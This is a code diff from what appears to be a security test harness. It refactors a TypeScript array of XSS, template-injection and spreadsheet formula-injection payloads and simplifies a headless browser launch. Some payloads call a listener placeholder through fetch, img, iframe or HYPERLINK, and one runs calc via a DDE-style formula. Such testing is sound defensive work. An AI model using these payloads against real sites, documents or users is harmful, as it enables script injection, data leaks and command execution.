@@ -17,41 +17,29 @@ import type { Tally } from './tally.ts';
 
 /** Every way to call out or to run that we know; {at} is the listener. */
 const HOSTILE = [
-  ...[
-    '<img src="{at}" onerror="alert(1)">',
-    '"><svg onload="alert(1)"><image href="{at}"/></svg>',
-    "'><script>alert(1)</script>",
-  ],
-  ...[
-    '</style><script>fetch("{at}")</script>',
-    '<style>@import "{at}"</style>',
-    '<link rel=stylesheet href={at}>',
-  ],
-  ...[
-    '<iframe src="{at}"></iframe>',
-    '<meta http-equiv=refresh content="0;url={at}">',
-    '![a]({at})',
-    '[a](javascript:alert(1))',
-  ],
-  ...[
-    '<object data="{at}"></object>',
-    '</script><script>alert(1)</script>',
-    '<!-- --><img src={at}>',
-    '{{constructor.constructor "alert(1)"}}',
-  ],
-  ...[
-    '=HYPERLINK("{at}","a")',
-    "+cmd|' /C calc'!A1",
-    '-1+1',
-    '@SUM(A1)',
-    '\u0061<base href="{at}">',
-    '`${alert(1)}`',
-  ],
-  ...[
-    '<body onload=alert(1)>',
-    '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
-    '<details open ontoggle=alert(1)>',
-  ],
+  '<img src="{at}" onerror="alert(1)">',
+  '"><svg onload="alert(1)"><image href="{at}"/></svg>',
+  "'><script>alert(1)</script>",
+  '</style><script>fetch("{at}")</script>',
+  '<style>@import "{at}"</style>',
+  '<link rel=stylesheet href={at}>',
+  '<iframe src="{at}"></iframe>',
+  '<meta http-equiv=refresh content="0;url={at}">',
+  '![a]({at})',
+  '[a](javascript:alert(1))',
+  '<object data="{at}"></object>',
+  '</script><script>alert(1)</script>',
+  '<!-- --><img src={at}>',
+  '{{constructor.constructor "alert(1)"}}',
+  '=HYPERLINK("{at}","a")',
+  "+cmd|' /C calc'!A1",
+  '-1+1',
+  '@SUM(A1)',
+  '\u0061<base href="{at}">',
+  '`${alert(1)}`',
+  '<body onload=alert(1)>',
+  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
+  '<details open ontoggle=alert(1)>',
 ];
 
 interface Source {
@@ -270,7 +258,9 @@ async function openBrowser(): Promise<Browser> {
   if (found === null) throw new Error('there is no browser');
   const libraries = path.join(path.dirname(found.path), 'lib');
   return launch({
-    ...{ executablePath: found.path, pipe: true, args: ['--no-sandbox', '--disable-gpu'] },
+    executablePath: found.path,
+    pipe: true,
+    args: ['--no-sandbox', '--disable-gpu'],
     env: { ...process.env, LD_LIBRARY_PATH: libraries },
   });
 }
